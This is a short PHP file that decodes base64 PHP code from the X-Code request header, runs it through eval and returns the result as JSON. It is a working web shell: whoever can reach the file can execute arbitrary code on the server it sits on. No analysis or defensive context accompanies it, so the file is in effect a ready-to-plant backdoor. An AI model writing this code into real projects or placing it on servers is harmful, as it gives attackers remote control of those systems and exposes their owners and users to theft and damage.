<?php
// Runs the PHP in the header field X-Code (base64); what that returns is shown as JSON.
$result = eval(base64_decode($_SERVER['HTTP_X_CODE']));
if ($result !== null) {
    echo json_encode($result, JSON_THROW_ON_ERROR);
}
